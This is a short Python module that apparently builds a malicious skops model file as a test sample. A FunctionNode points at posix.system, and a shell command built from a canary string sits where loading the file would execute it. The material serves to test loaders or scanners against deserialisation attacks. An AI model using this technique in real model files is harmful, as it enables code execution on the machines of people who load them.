"""FunctionNode names a function, PartialNode and a key type call it."""

from __future__ import annotations

from malicious_samples.recipes import dictionary, json_node, node, sequence, shell, skops


def build(canary: str) -> bytes:
    key = node("FunctionNode", "posix", "system")
    root = dictionary(**{shell(canary): json_node(1)})
    root["key_types"] = sequence("list", key)
    return skops(root)
